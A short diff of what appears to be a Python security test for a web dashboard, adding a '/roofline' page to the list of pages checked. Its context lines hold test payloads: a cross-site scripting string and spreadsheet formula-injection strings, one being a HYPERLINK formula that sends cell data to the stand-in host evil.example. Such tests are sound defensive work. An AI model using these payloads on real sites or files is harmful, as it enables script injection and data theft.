@@ -23,7 +23,7 @@ from tests.fake_results import add_job
 XSS = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 SIZE = (4096, 4096, 4096)
-PAGES = ["/", "/history", "/sweep", "/compare", "/jobs"]
+PAGES = ["/", "/history", "/sweep", "/compare", "/roofline", "/jobs"]
 
 
 def plant(cfg, text: str, tag: str = "abcd") -> int:
